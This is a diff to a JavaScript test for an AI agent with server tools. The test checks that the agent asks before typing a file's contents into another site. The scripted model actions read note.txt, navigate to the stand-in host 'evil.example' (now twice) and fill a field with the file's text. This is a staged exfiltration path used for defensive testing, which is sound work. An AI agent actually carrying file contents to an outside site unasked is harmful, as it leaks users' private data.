@@ -270,7 +270,7 @@ describe("a model that may use the server host", () => {
 	test("asks before what a file holds is typed into another site", async ({ host }) => {
 		const call = await withModel(host);
 		const { id } = await host.workspace({ "note.txt": "the blue kettles sell at 12.90" });
-		model.play([does('server("fs_read", {"path": "note.txt"})'), does('navigate("https://evil.example/")')]);
+		model.play([does('server("fs_read", {"path": "note.txt"})'), ...[1, 2].map(() => does('navigate("https://evil.example/")'))]);
 		const task = client(call, { query: "Fill in what note.txt says", workspaceId: id });
 		await task.post();
 		model.play([does('setValue(4, "blue kettles sell at 12.90")')]);
